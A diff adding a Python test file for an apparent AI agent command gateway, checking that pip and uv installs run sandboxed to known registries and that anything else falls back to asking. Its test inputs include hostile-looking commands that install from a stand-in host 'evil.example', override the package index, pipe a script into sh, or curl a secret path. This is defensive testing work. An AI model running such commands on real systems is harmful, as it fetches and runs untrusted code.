@@ -1,0 +1,222 @@
+"""Calls that install what can be fetched before they run: what is read off their words and files, and what is not."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from gateway.model.call import RawCall
+from gateway.model.plan import Endpoint
+from gateway.policy.confine import grants_of
+from gateway.policy.fetching import (
+    FETCHERS,
+    Fetch,
+    Listed,
+    OtherwiseError,
+    Project,
+    fetch_of,
+    listed,
+    needed_by,
+)
+from gateway.policy.hostrules import Only, Refused
+from gateway.policy.installs import INSTALLERS
+from gateway.sandbox.network import OFF, fetching_of
+from gateway.spec.sandbox import REGISTRIES
+
+HELD = {
+    "id": "held",
+    "allow": {"effect": ["code", "opaque", "write", "delete", "connect", "system", "env", "read"], "contained": True},
+}
+PIP = {"settings": {"sandbox": {"registries": ["npm", "pip"]}}, "rules": [HELD]}
+ROOT = "/home/dev/project"
+PROGRAM = ".venv/bin/pip"
+
+
+@pytest.fixture
+def judged(guard):
+    """The verdict on a text under a policy."""
+
+    def judge(text: str, policy=PIP, **more):
+        return guard({"user": policy}, **more).check(RawCall("Bash", {"command": text}), contains=lambda *_: "")
+
+    return judge
+
+
+def test_policy_can_name_each_of_them() -> None:
+    assert {*INSTALLERS, *FETCHERS} == set(REGISTRIES)
+
+
+@pytest.mark.parametrize(
+    ("text", "named", "files", "projects"),
+    [
+        (".venv/bin/pip install six", ("six",), (), ()),
+        (".venv/bin/pip install -q -U 'six>=1.16,<2' 'x[socks]==2.31.0'", ("six>=1.16,<2", "x[socks]==2.31.0"), (), ()),
+        (".venv/bin/pip install \"x; python_version < '3.9'\"", ("x; python_version < '3.9'",), (), ()),
+        (".venv/bin/python -m pip install -r requirements.txt", (), (f"{ROOT}/requirements.txt",), ()),
+        (".venv/bin/pip install --requirement=req/dev.txt six", ("six",), (f"{ROOT}/req/dev.txt",), ()),
+        ("cd src && ../.venv/bin/pip install -r r.txt", (), (f"{ROOT}/src/r.txt",), ()),
+        ("pip install -t lib six", ("six",), (), ()),
+        ("uv pip install six", ("six",), (), ()),
+        ("uv pip install -r requirements.txt", (), (f"{ROOT}/requirements.txt",), ()),
+        (".venv/bin/pip install -e .", (), (), (Project(f"{ROOT}/.", (), linked=True),)),
+        (".venv/bin/pip install -e '.[d,t]' six", ("six",), (), (Project(f"{ROOT}/.", ("d", "t"), linked=True),)),
+        (".venv/bin/pip install ./src", (), (), (Project(f"{ROOT}/./src"),)),
+        # What stands beside it has no network either.
+        ("python3 -m venv .venv && .venv/bin/pip install six && .venv/bin/python x.py", ("six",), (), ()),
+        (".venv/bin/pip install six; ./run.sh | sh", ("six",), (), ()),
+        (".venv/bin/pip install a && .venv/bin/pip install b", ("a", "b"), (), ()),
+        ("PIP_INDEX_URL=https://evil.example .venv/bin/pip install six", ("six",), (), ()),
+    ],
+)  # fmt: skip
+def test_an_install_is_contained_and_what_it_needs_is_known(judged, text, named, files, projects) -> None:
+    verdict = judged(text)
+    assert (verdict.decision.word, verdict.contained) == ("allow", True), verdict.reason
+    fetch = fetch_of(verdict.analysis, ("pip",))
+    assert fetch is not None
+    assert fetch == Fetch("pip", named, files, projects, targets=fetch.targets)
+    grants = grants_of(verdict, {"registries": ["pip"], "hosts": ["wiki.example"]})
+    assert (grants.network, grants.contacts, grants.fetched) == ("off", (), "pip")
+    assert fetching_of(grants, (), ()).allow == (
+        Endpoint("pypi.org", 0, "sandbox", "read"),
+        Endpoint("files.pythonhosted.org", 0, "sandbox", "read", named_by=("pypi.org",)),
+    )
+    twin = judged(text, {"rules": [HELD]})
+    assert (twin.decision.word, twin.contained) == ("ask", False)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # Another source, or what must be run to be had
+        ".venv/bin/pip install git+https://evil.example/x", ".venv/bin/pip install https://evil.example/x.whl",
+        ".venv/bin/pip install 'x @ https://evil.example/x.whl'", ".venv/bin/pip install ./x.whl@y",
+        ".venv/bin/pip install -i https://evil.example/ x", ".venv/bin/pip install --index-url=https://evil.example/ x",
+        ".venv/bin/pip install --extra-index-url https://evil.example/ x", ".venv/bin/pip install -f links x",
+        ".venv/bin/pip install --no-binary :all: x", ".venv/bin/pip install --trusted-host x x",
+        ".venv/bin/pip install --proxy http://evil.example x", ".venv/bin/pip install --cert x x",
+        ".venv/bin/pip install -c constraints.txt x", ".venv/bin/pip install -e git+https://evil.example/x",
+        ".venv/bin/pip install -e ../other", ".venv/bin/pip install -e ./../other", ".venv/bin/pip install -e",
+        ".venv/bin/pip install --python-version 3.9 x", ".venv/bin/pip install --find-links=/srv x",
+        ".venv/bin/pip install -r https://evil.example/r.txt", ".venv/bin/pip install -r",
+        ".venv/bin/pip install -r -x",
+        ".venv/bin/pip install /srv/x", ".venv/bin/pip install ~/x", ".venv/bin/pip install x/y",
+        # Not known before
+        ".venv/bin/pip install $X", ".venv/bin/pip install $(cat x)", ".venv/bin/pip install *",
+        "cd $X; pip install -t l x",
+        ".venv/bin/pip install", "cat x | xargs .venv/bin/pip install",
+        # Other installs beside it, or other reads of the registry
+        ".venv/bin/pip install six && curl https://pypi.org/secret", ".venv/bin/pip install six && npm install",
+        ".venv/bin/pip install six && uv sync", ".venv/bin/pip install six; .venv/bin/pip download x",
+        ".venv/bin/pip install six && git push", ".venv/bin/pip install a; .venv/bin/pip install --no-deps b",
+        ".venv/bin/pip install six && sudo apt-get install jq", "uv tool install x",
+        # The system's own packages
+        "pip install six", "python3 -m pip install -r requirements.txt", "pip install --user six",
+    ],
+)  # fmt: skip
+def test_everything_else_asks(judged, text: str) -> None:
+    verdict = judged(text)
+    assert (verdict.decision.word, verdict.contained) in (("ask", False), ("deny", False)), verdict.reason
+
+
+def test_rules_on_hosts_and_on_installs_hold(judged) -> None:
+    for rule in ({"host": "pypi.org"}, {"effect": "system", "action": "install"}, {"effect": "connect"}):
+        for lane in ("ask", "deny"):
+            policy = {**PIP, "rules": [HELD, {"id": "no", lane: rule}]}
+            assert judged(".venv/bin/pip install six", policy).decision.word == lane
+
+
+def test_a_rule_that_leaves_one_of_the_hosts_out_leaves_no_step(judged) -> None:
+    grants = grants_of(judged(".venv/bin/pip install six"), {"registries": ["pip"]})
+    assert fetching_of(grants, (Refused("*", 0, "r"),), ()) == OFF
+    assert fetching_of(grants, (), (Only(("pypi.org",), "r"),)) == OFF
+    assert fetching_of(grants, (Refused("pypi.org", 0, "r"),), ()).deny == (Endpoint("pypi.org", 0, "r"),)
+    demand = {**PIP, "rules": [HELD, {"require": {"network": "off"}, "for": {"tool": "Bash"}}]}
+    verdict = judged(".venv/bin/pip install six", demand)
+    assert verdict.decision.word == "deny" or not grants_of(verdict, {"registries": ["pip"]}).registries
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("", Listed((), ())),
+        ("six==1.16.0\n\n# note\nidna >= 3 ; python_version >= '3.8'  # why\n",
+         Listed(("six==1.16.0", "idna >= 3 ; python_version >= '3.8'"), ())),
+        ("six==1.16.0 \\\n    --hash=sha256:ab12 \\\n    --hash=sha256:CD\n",
+         Listed(("six==1.16.0 --hash=sha256:ab12 --hash=sha256:CD",), ())),
+        ("-r base.txt\n--requirement ../common.txt\nx[a, b]~=1.0\n",
+         Listed(("x[a, b]~=1.0",), ("base.txt", "../common.txt"))),
+    ],
+)  # fmt: skip
+def test_files_of_requirements_are_read(text: str, expected: Listed) -> None:
+    assert listed(text) == expected
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "https://evil.example/x.whl", "git+ssh://x/y", "x @ https://evil.example/x", "./x", "-e .",
+        "--index-url https://e/",
+        "-i https://e/", "--extra-index-url=https://e/", "--find-links x", "--no-binary :all:",
+        "-c c.txt", "$HOME", "x y",
+        "x==1 --config-settings=a=b", "x\u00e9", "x;\u202e", "--hash=sha256:ab", "x==1; os_name == `a`", "-r a b",
+    ],
+)  # fmt: skip
+def test_anything_else_in_them_is_told_with_its_line(line: str) -> None:
+    with pytest.raises(OtherwiseError, match="line 2 "):
+        listed(f"six\n{line}\n")
+
+
+@given(st.text(alphabet=st.characters(max_codepoint=0x2100), max_size=60))
+def test_no_line_that_is_handed_on_is_an_option_an_address_or_a_folder(text: str) -> None:
+    try:
+        found = listed(text)
+    except OtherwiseError:
+        return
+    for line in found.lines:
+        assert line[0].isalnum()
+        assert line.isascii()
+        assert line.isprintable()
+        assert "/" not in line
+        assert "@" not in line
+        assert ":" not in line.replace("--hash=sha256:", "").partition("--hash=")[0]
+
+
+PYPROJECT = """
+[build-system]
+requires = ["hatchling>=1.2"]
+build-backend = "hatchling.build"
+[project]
+name = "My.Proj"
+dependencies = ["attrs>=23"]
+[project.optional-dependencies]
+test = ["iniconfig"]
+Dev = ["my_proj[test]", "packaging"]
+"""
+
+
+@pytest.mark.parametrize(
+    ("text", "project", "expected"),
+    [
+        (PYPROJECT, Project("."), ("hatchling>=1.2", "attrs>=23")),
+        (PYPROJECT, Project(".", linked=True), ("hatchling>=1.2", "editables~=0.3", "attrs>=23")),
+        (PYPROJECT, Project(".", ("dev",)), ("hatchling>=1.2", "attrs>=23", "packaging", "iniconfig")),
+        ("[project]\nname = 'x'\n", Project("."), ("setuptools>=40.8.0", "wheel")),
+    ],
+)
+def test_a_projects_own_package_needs_what_it_says(text: str, project: Project, expected: tuple[str, ...]) -> None:
+    assert needed_by(text, project) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "", "[project]\nname='x'\ndynamic=['dependencies']", "[project]\ndependencies=['x @ https://e/x.whl']",
+        "[project]\ndependencies='x'", "[project]\ndependencies=[1]",
+        "[build-system]\nrequires=['./x']\n[project]\nname='x'",
+        "build-system=1\n[project]\nname='x'", "[project", "[tool.poetry]\nname='x'",
+    ],
+)  # fmt: skip
+def test_one_that_says_it_by_code_or_takes_it_from_elsewhere_is_not_fetched(text: str) -> None:
+    with pytest.raises(OtherwiseError):
+        needed_by(text, Project("."))
